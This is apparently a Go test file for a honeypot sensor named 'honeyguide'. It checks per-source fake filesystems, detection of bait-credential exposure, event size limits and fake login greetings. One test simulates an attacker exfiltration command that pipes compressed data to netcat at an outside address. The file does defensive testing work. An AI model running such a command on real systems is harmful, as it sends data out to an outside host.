package sensor_test

import (
	"net/netip"
	"strings"
	"testing"

	"honeyguide"
	"honeyguide/internal/deception/machine"
	"honeyguide/internal/deception/vfs"
	"honeyguide/internal/sensor"
	"honeyguide/internal/sensor/sensortest"
)

func session(t *testing.T, w *sensor.World, src string) (*sensor.Session, *sensortest.Sink, *sensortest.Script) {
	t.Helper()
	sink, conn := sensortest.NewSink(), sensortest.NewScript(nil)
	s := sensortest.Session(w, sink, "ssh", conn)
	s.Src = netip.AddrPortFrom(netip.MustParseAddr(src), 1000)
	return s, sink, conn
}

func put(t *testing.T, fs *vfs.FS, path, content string) {
	t.Helper()
	f, err := fs.Open(vfs.Cred{}, path, vfs.O_WRONLY|vfs.O_CREATE|vfs.O_TRUNC, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte(content)); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestOneSourceHasOneWorld(t *testing.T) {
	w := sensortest.NewWorld(t)
	a, sink, _ := session(t, w, "203.0.113.1")
	b, _, _ := session(t, w, "203.0.113.1")
	c, _, _ := session(t, w, "203.0.113.2")
	put(t, w.FS(a), "/tmp/x", "hello")
	if _, err := w.FS(b).Stat(vfs.Cred{}, "/tmp/x"); err != nil {
		t.Errorf("the same source does not see its file: %v", err)
	}
	if _, err := w.FS(c).Stat(vfs.Cred{}, "/tmp/x"); err == nil {
		t.Error("another source sees the file")
	}
	e := sink.Events(honeyguide.ActivityFileWrite)
	if len(e) != 1 || e[0].Str(honeyguide.AttrPath) != "/tmp/x" || e[0].Int(honeyguide.AttrSize) != 5 ||
		!strings.HasPrefix(e[0].Str(honeyguide.AttrSHA256), "2cf24dba5fb0a30e") {
		t.Errorf("file events: %+v", e)
	}
}

func TestForgottenSourcesAreTheOldest(t *testing.T) {
	w := sensortest.NewWorld(t, func(c *sensor.WorldConfig) { c.Sources = 4 })
	first, _, _ := session(t, w, "203.0.113.1")
	put(t, w.FS(first), "/tmp/x", "hello")
	for n := range 10 {
		s, _, _ := session(t, w, netip.AddrFrom4([4]byte{198, 51, 100, byte(n)}).String())
		w.FS(s)
	}
	if _, err := w.FS(first).Stat(vfs.Cred{}, "/tmp/x"); err == nil {
		t.Error("ten sources are remembered where four fit")
	}
}

func TestExposureIsReportedOncePerCommand(t *testing.T) {
	w := sensortest.NewWorld(t)
	s, sink, _ := session(t, w, "203.0.113.1")
	show := func(by string, chunks ...string) {
		s.Running(by)
		for _, c := range chunks {
			s.Record('o', []byte(c))
		}
		s.Ran(by)
	}
	half := len(sensortest.BaitSecret) / 2
	show("cat creds", "secret = "+sensortest.BaitSecret[:half], sensortest.BaitSecret[half:]+"\r\n")
	show("cat creds", sensortest.BaitSecret)
	show("grep key creds", sensortest.BaitSecret, sensortest.BaitSecret)
	show("ls", "nothing here")
	s.Record('i', []byte(sensortest.BaitSecret)) // typed, not shown
	s.Ran("typed")
	got := sink.Events(honeyguide.ActivityTokenExposed)
	if len(got) != 2 {
		t.Fatalf("%d exposures, want 2: %+v", len(got), got)
	}
	for i, by := range []string{"cat creds", "grep key creds"} {
		if e := got[i]; e.Str(honeyguide.AttrCommand) != by || e.Str(honeyguide.AttrToken) != sensortest.BaitID ||
			e.Str(honeyguide.AttrPath) != sensortest.BaitPath || e.Severity != honeyguide.SeverityMedium {
			t.Errorf("exposure %d: %+v", i, e)
		}
	}
}

func TestPlainWritesAreSearchedAndOpaqueOnesNot(t *testing.T) {
	w := sensortest.NewWorld(t)
	s, sink, conn := session(t, w, "203.0.113.1")
	s.Opaque()
	_, _ = s.Write([]byte(sensortest.BaitSecret))
	s.Ran("x")
	if len(sink.Events(honeyguide.ActivityTokenExposed)) != 0 {
		t.Error("an opaque write was searched")
	}
	s, sink, _ = session(t, w, "203.0.113.1")
	_, _ = s.Write([]byte(sensortest.BaitSecret))
	s.Ran("x")
	if len(sink.Events(honeyguide.ActivityTokenExposed)) != 1 {
		t.Error("a plain write was not searched")
	}
	if conn.Out.String() != sensortest.BaitSecret {
		t.Errorf("sent %q", conn.Out.String())
	}
}

func TestReadingBaitIsAnExposureToo(t *testing.T) {
	w := sensortest.NewWorld(t)
	s, sink, _ := session(t, w, "203.0.113.1")
	f, err := w.FS(s).Open(vfs.Cred{}, sensortest.BaitPath, vfs.O_RDONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.Read(make([]byte, 10))
	_ = f.Close()
	s.Ran("gzip -c x | nc 192.0.2.9 99")
	got := sink.Events(honeyguide.ActivityTokenExposed)
	if len(got) != 1 || !strings.Contains(got[0].Str(honeyguide.AttrDetail), "not seen") {
		t.Errorf("got %+v", got)
	}
}

func TestEventsAreBounded(t *testing.T) {
	w := sensortest.NewWorld(t)
	s, sink, _ := session(t, w, "203.0.113.1")
	e := honeyguide.Event{Activity: honeyguide.ActivityCommand}
	e.Set(honeyguide.AttrCommand, strings.Repeat("ü", 100_000))
	s.Emit(e)
	if n := len(sink.Events()[0].Str(honeyguide.AttrCommand)); n > 32<<10 {
		t.Errorf("a text of %d bytes", n)
	}
	for range 25_000 {
		s.Emit(honeyguide.Event{Activity: honeyguide.ActivityCommand})
	}
	if n := len(sink.Events()); n > 20_001 {
		t.Errorf("%d events of one session", n)
	}
}

func TestGreetingNamesTheLastLogin(t *testing.T) {
	w := sensortest.NewWorld(t)
	s, _, _ := session(t, w, "203.0.113.1")
	motd, _, _ := w.Greeting(s, "root")
	if !strings.HasPrefix(motd, "Linux ") || strings.Count(motd, "\n") != strings.Count(motd, "\r\n") {
		t.Errorf("message of the day: %q", motd)
	}
	machine.TableOf(w.FS(s)).OpenSSH("root", 0, 0, true, s.Dst, s.Src).Close()
	if _, at, from := w.Greeting(s, "root"); from != "203.0.113.1" || at.IsZero() {
		t.Errorf("second login: %s at %s", from, at)
	}
	other, _, _ := session(t, w, "203.0.113.2")
	if _, _, from := w.Greeting(other, "root"); from == "203.0.113.1" {
		t.Error("another source learns of the first")
	}
}
